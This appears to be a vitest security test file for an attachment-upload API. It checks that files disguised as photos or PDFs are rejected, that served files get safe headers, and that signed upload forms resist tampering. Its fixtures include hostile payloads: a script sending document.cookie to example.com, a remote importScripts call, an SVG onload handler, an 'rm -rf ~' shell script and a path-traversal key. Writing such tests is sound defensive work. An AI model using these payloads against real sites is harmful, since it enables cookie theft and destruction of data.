import { randomUUID } from 'node:crypto'
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, test } from 'vitest'
import { fileTypes, type FileType } from '@muster/domain/attachments/limits.ts'
import { DISTRICT, startApi, type TestApi } from '../support/api.ts'
import { attachmentDraft, jpeg, postForm } from '../support/attachments.ts'
import { heldLike, putFiledDrill } from '../support/drills.ts'
import { workbook } from './zip.ts'

let api: TestApi
let place: { department: string; year: number; recordKind: 'drill'; record: string }
beforeAll(async () => {
  api = await startApi()
})
afterAll(() => api.stop())

const as = 'planner-s01'
const aDrill = async () => {
  const { id, department, year } = await putFiledDrill({ status: 'held', day: '2026-05-12', held: heldLike })
  place = { department, year, recordKind: 'drill', record: id }
}
beforeAll(aDrill)

/** Announced as what it is not, posted and confirmed as the web would. */
const smuggle = async (content: Buffer, type: FileType, name: string) => {
  await aDrill()
  const params = { ...place, attachment: randomUUID() }
  const body = attachmentDraft({ name, type, size: content.length })
  expect((await api.call('requestUpload', { as, params, body })).status).toBe(201)
  const form = await api.call('getUploadForm', { as, params })
  expect((await postForm(form.body, content)).status).toBe(204)
  const confirmed = await api.call('confirmUpload', { as, params, body: {}, ifMatch: 1 })
  return { params, confirmed }
}

const script = '<script>fetch("https://example.com/?"+document.cookie)</script>'
const disguised: Readonly<Record<string, Buffer>> = {
  'a page': Buffer.from(`<!doctype html>${script}`),
  'a page behind a mark of its encoding': Buffer.from(`\ufeff<html>${script}`),
  'a page behind a comment that looks like a document': Buffer.from(`<!--%PDF-1.7-->${script}`),
  'a drawing with a script': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  'a drawing behind its declaration': Buffer.from(`<?xml version="1.0"?><svg onload="alert(1)"/>`),
  'a script': Buffer.from('importScripts("https://example.com/x.js")'),
  'a shell script': Buffer.from('#!/bin/sh\nrm -rf ~\n'),
  'a program': Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0', 'latin1'),
  'a workbook': Buffer.from(workbook({ sheet: '<sheetData/>' })),
  'a page between two bytes of a photo': Buffer.from(`\xff\xd8${script}`, 'latin1'),
}

describe('what is renamed to a photo or a PDF is not kept, and nobody can open it:', () => {
  test.each(Object.entries(disguised))('%s', async (_, content) => {
    for (const type of fileTypes) {
      const { params, confirmed } = await smuggle(content, type, `现场.${type.split('/')[1]}`)
      expect(confirmed).toMatchObject({ status: 422, body: { code: 'upload-content' } })
      expect(confirmed.body['detail']).toMatch(
        /^文件内容不是(JPEG|PNG|WebP|PDF) (图片|文件)（可能改过扩展名），不能存档/,
      )
      expect((await api.call('openAttachment', { as, params })).body).toMatchObject({ code: 'attachment-state' })
      expect((await api.call('listAttachments', { as, params: place })).body.items).toEqual([])
    }
  })
})

describe('a photo that carries a page in its belly', () => {
  it('is given out as a photo alone, to be saved, without rights', async () => {
    const content = Buffer.concat([jpeg(), Buffer.from(`<!doctype html>${script}`)])
    const { params, confirmed } = await smuggle(content, 'image/jpeg', '现场.html')
    expect(confirmed.status).toBe(200)
    const opened = await api.call('openAttachment', { as, params })
    expect(opened.body.name).toBe('现场.html.jpg')
    const answer = await fetch(opened.body.url)
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'image/jpeg',
      'content-disposition': `attachment; filename="file.jpg"; filename*=UTF-8''%E7%8E%B0%E5%9C%BA.html.jpg`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'none'",
      'cross-origin-resource-policy': 'same-origin',
    })
    const asPage = new URL(opened.body.url)
    asPage.searchParams.set('response-content-type', 'text/html')
    expect((await fetch(asPage)).status).toBe(403)
  })
})

describe('a form is for what it was given for', () => {
  const formFor = async (size: number) => {
    const params = { ...place, attachment: randomUUID() }
    await api.call('requestUpload', { as, params, body: attachmentDraft({ size }) })
    return (await api.call('getUploadForm', { as, params })).body
  }
  const kept = () => readdirSync(join(api.files, 'files'), { recursive: true }).map(String).toSorted()

  it('and takes no larger file, no other place, no other type, and no policy of its holder’s', async () => {
    const form = await formFor(256)
    const before = kept()
    const wider = Buffer.from(form.fields['Policy'] ?? '', 'base64')
      .toString()
      .replace('256,256', '0,99999999')
    for (const [content, over] of [
      [jpeg(257), {}],
      [jpeg(40 * 1024 * 1024), {}],
      [jpeg(), { key: form.fields['key']?.replace('/S01/', '/S02/') }],
      [jpeg(), { key: `files/${DISTRICT}/S01/../../../x` }],
      [jpeg(), { 'Content-Type': 'text/html' }],
      [jpeg(4096), { Policy: Buffer.from(wider).toString('base64') }],
    ] as const) {
      const answer = await postForm(form, content, over)
      expect(answer.status, JSON.stringify(over)).toBeGreaterThanOrEqual(400)
      expect(await answer.text()).toMatch(/<Code>(AccessDenied|EntityTooLarge)<\/Code>/)
    }
    expect(kept()).toEqual(before)
  })

  it('of whoever has no form there is none', async () => {
    const { url } = await formFor(256)
    const form = new FormData()
    form.append('key', `files/${DISTRICT}/S01/${randomUUID()}`)
    form.append('file', new Blob([new Uint8Array(jpeg())]), 'x')
    expect((await fetch(url, { method: 'POST', body: form })).status).toBe(403)
  })

  it('and says nothing of the secret that signed it', async () => {
    const form = JSON.stringify(await formFor(256))
    expect(form).not.toContain(process.env['MUSTER_FILES_SECRET'])
  })
})
